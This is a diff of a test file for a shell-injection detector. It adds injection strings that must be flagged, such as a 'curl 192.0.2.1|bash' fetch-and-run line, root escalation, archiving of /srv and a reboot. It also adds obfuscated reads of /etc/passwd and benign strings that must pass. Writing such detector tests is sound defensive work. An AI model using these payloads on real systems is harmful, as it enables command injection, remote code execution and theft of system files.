@@ -26,6 +26,18 @@ describe('detectShell', () => {
     ';netstat -an',
     ';python -c "import os"',
     '|net user',
+    ';ps aux',
+    ';find / -name x.php',
+    ';git clone http://192.0.2.1/a',
+    ';mv a.jpg a.php',
+    ';tar czf /tmp/a.tgz /srv',
+    ';su - root',
+    ';sudo -l',
+    ';dig a.example',
+    ';reboot',
+    'curl 192.0.2.1|bash',
+    '|for /f "delims=" %i in (\'whoami\') do echo %i',
+    ';who$()ami',
   ])('finds a command after a separator in %s', (text) => {
     expect(words(text)).toContain('command-after-separator');
   });
@@ -41,12 +53,17 @@ describe('detectShell', () => {
     expect(words(text)).toContain('command-substitution');
   });
 
-  it.each([';cat${IFS}/etc/passwd', ';cat$IFS/etc/passwd', '{cat,/etc/passwd}', ';echo A$((11+22))B'])(
-    'finds an expansion in %s',
-    (text) => {
-      expect(words(text)).toContain('shell-expansion');
-    },
-  );
+  it.each([
+    ';cat${IFS}/etc/passwd',
+    ';cat$IFS/etc/passwd',
+    '/???/??t /tmp',
+    'a=c;b=at;$a$b x',
+    'x%windir:~3,1%y',
+    '{cat,/etc/passwd}',
+    ';echo A$((11+22))B',
+  ])('finds an expansion in %s', (text) => {
+    expect(words(text)).toContain('shell-expansion');
+  });
 
   it.each([
     'cat /etc/passwd',
@@ -83,6 +100,14 @@ describe('detectShell', () => {
     '$(document)',
     '`code`',
     'rm -rf とは',
+    'how to use `git` today',
+    'please use `pip install x` first',
+    'bash & zsh',
+    'W & W',
+    'games | reboot edition',
+    'for sale; for men in (M)',
+    'if you & if I',
+    '/a/b?/c',
     'S|M|L',
     '$100',
     'who; what',
